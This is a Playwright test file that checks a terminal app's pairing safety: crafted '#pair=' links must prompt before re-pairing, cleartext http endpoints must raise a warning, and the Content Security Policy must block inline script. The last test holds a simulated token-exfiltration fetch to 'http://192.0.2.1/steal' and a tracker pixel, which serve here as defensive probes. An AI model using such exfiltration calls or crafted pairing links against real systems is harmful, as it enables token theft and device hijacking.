// Pairing safety as the person at the terminal meets it (issue 16, finding 9): a crafted
// `#pair=` link never silently moves a paired terminal to another endpoint, organisation or site;
// plain http to another computer is called out in Settings; and the page the endpoint serves
// runs no inline script and reaches no foreign origin.
import { mkdirSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { pairingFragment, startEndpointProcess, type EndpointProcess } from '../support/endpoint-process';

const shots = 'test-results/screenshots';
mkdirSync(shots, { recursive: true });

/** Opens a link in the terminal's tab the way a click from a chat or an e-mail would: a fresh load. */
async function openLink(page: Page, url: string): Promise<void> {
  await page.goto('about:blank');
  await page.goto(url);
}

async function pairedTerminalId(page: Page): Promise<string | undefined> {
  return page.evaluate(
    () =>
      (JSON.parse(localStorage.getItem('larder.pairing') ?? '{}') as { state?: { pairing?: { terminalId?: string } } }).state?.pairing
        ?.terminalId,
  );
}

test.beforeEach(({}, testInfo) => {
  test.skip(testInfo.project.metadata.host === 'electron', 'links and the served page are browser mode; Electron loads app:// only');
});

test.describe('a pairing link on a paired terminal', () => {
  test.use({ appOptions: { siteId: 'store-1', siteKind: 'store', locale: 'en-US' } });
  let foreign: EndpointProcess;
  test.beforeAll(async () => {
    foreign = await startEndpointProcess();
    await foreign.admin('site', 'add', '--id', 'hq-elsewhere', '--kind', 'hq', '--name', 'hq-elsewhere');
  });
  test.afterAll(async () => {
    await foreign.stop();
  });

  test('to another organisation waits for a yes, and keeps the current pairing unless confirmed', async ({ app, endpoint }) => {
    await expect(app.getByTestId('header-site')).toHaveText('Store · store-1');
    const { token } = await foreign.addTerminal('hq-elsewhere', 'crafted link');
    const link = `${endpoint.url}/${pairingFragment(foreign.url, token)}`;

    await openLink(app, link);
    await expect(app.getByText('Pair this terminal with another endpoint?')).toBeVisible();
    await expect(app.getByTestId('repair-proposed-endpoint')).toHaveText(foreign.url);
    await expect(app.getByTestId('repair-proposed-site')).toHaveText('HQ · hq-elsewhere');
    await expect(app.getByTestId('repair-proposed')).toContainText('another organisation');
    await expect(app.getByTestId('repair-current-endpoint')).toHaveText(endpoint.url);
    await expect(app.getByTestId('repair-current-site')).toHaveText('Store · store-1');
    expect(new URL(app.url()).hash).not.toContain('pair=');
    await app.screenshot({ path: `${shots}/pairing-repair-prompt-en.png` });

    await app.getByTestId('repair-keep').click();
    await expect(app.getByTestId('repair-proposed')).toBeHidden();
    await app.getByTestId('nav').getByText('Settings', { exact: true }).click();
    await expect(app.getByTestId('paired-site')).toHaveText('store-1');
    await expect(app.getByTestId('sync-connectivity')).toHaveText('Online');

    await openLink(app, link);
    await app.getByTestId('repair-confirm').click();
    await expect(app.getByTestId('header-site')).toHaveText('HQ · hq-elsewhere');
  });

  test('with a new token for the same site on the same endpoint goes through without asking', async ({ app, endpoint }) => {
    await expect(app.getByTestId('header-site')).toHaveText('Store · store-1');
    const before = await pairedTerminalId(app);
    const renewed = await endpoint.addTerminal('store-1', 'renewed token');
    await openLink(app, `${endpoint.url}/${pairingFragment(endpoint.url, renewed.token)}`);
    await expect.poll(() => pairedTerminalId(app)).toBe(renewed.terminalId);
    expect(renewed.terminalId).not.toBe(before);
    await expect(app.getByTestId('repair-proposed')).toHaveCount(0);
    await expect(app.getByTestId('header-site')).toHaveText('Store · store-1');
  });

  test('Settings warns before pairing over plain http with another computer', async ({ app, endpoint }) => {
    await app.goto(`${endpoint.url}/#/settings`);
    await expect(app.getByTestId('paired-site')).toHaveText('store-1');
    // The launcher's own loopback endpoint: no warning.
    await expect(app.getByTestId('paired-cleartext-warning')).toHaveCount(0);
    await app.getByTestId('pair-url').fill('http://192.168.1.5:4455');
    await expect(app.getByTestId('pair-cleartext-warning')).toContainText('cross the network unencrypted');
    await app.screenshot({ path: `${shots}/pairing-cleartext-warning-en.png` });
    await app.getByTestId('pair-url').fill('https://192.168.1.5:4455');
    await expect(app.getByTestId('pair-cleartext-warning')).toHaveCount(0);
    await app.getByTestId('pair-url').fill('http://127.0.0.1.evil.example:4455');
    await expect(app.getByTestId('pair-cleartext-warning')).toBeVisible();
  });
});

test.describe('in zh-CN', () => {
  test.use({ appOptions: { siteId: 'store-2', siteKind: 'store', locale: 'zh-CN' } });

  test('a link to another site of the same organisation asks too, in Chinese', async ({ app, endpoint }) => {
    await expect(app.getByTestId('header-site')).toHaveText('门店 · store-2');
    await endpoint.admin('site', 'add', '--id', 'kitchen-2', '--kind', 'kitchen', '--name', 'kitchen-2').catch(() => '');
    const { token } = await endpoint.addTerminal('kitchen-2', 'other site');
    await openLink(app, `${endpoint.url}/${pairingFragment(endpoint.url, token)}`);
    await expect(app.getByText('将本终端配对到另一个同步服务？')).toBeVisible();
    await expect(app.getByTestId('repair-proposed-site')).toHaveText('中央厨房 · kitchen-2');
    await expect(app.getByTestId('repair-proposed')).toContainText('同一组织');
    await expect(app.getByTestId('repair-keep')).toHaveText('保持当前配对');
    await app.screenshot({ path: `${shots}/pairing-repair-prompt-zh-CN.png` });
    await app.getByTestId('repair-keep').click();
    await expect(app.getByTestId('header-site')).toHaveText('门店 · store-2');

    await app.goto(`${endpoint.url}/#/settings`);
    await app.getByTestId('pair-url').fill('http://10.0.0.8:4455');
    await expect(app.getByTestId('pair-cleartext-warning')).toContainText('未加密的 http://');
    await app.screenshot({ path: `${shots}/pairing-cleartext-warning-zh-CN.png` });
  });
});

test('the served page runs no injected inline script and reaches no foreign origin', async ({ browser, endpoint }) => {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const response = await page.goto(`${endpoint.url}/`);
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    await expect(page.getByTestId('app-name')).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__larderInjected = true';
      document.head.append(script);
      const foreign = await fetch('http://192.0.2.1/steal', { method: 'POST', body: 'token' }).then(
        () => 'sent',
        () => 'blocked',
      );
      const image = new Image();
      image.src = 'https://tracker.example/pixel.gif';
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { injected: (window as { __larderInjected?: boolean }).__larderInjected === true, foreign, violations };
    });
    expect(outcome).toEqual({
      injected: false,
      foreign: 'blocked',
      violations: expect.arrayContaining(['script-src-elem', 'connect-src', 'img-src']),
    });
  } finally {
    await context.close();
  }
});
